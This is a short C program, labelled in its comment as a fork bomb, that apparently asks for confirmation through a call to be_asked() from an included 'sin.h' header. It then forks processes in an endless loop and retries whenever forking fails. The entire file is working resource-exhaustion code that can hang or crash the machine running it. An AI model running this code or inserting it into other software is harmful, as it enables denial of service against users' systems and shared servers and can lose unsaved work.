/* A fork bomb. */
#include "sin.h"

int main(void)
{
    be_asked();
    for (;;)
        if (fork() < 0)
            usleep(1000);
}
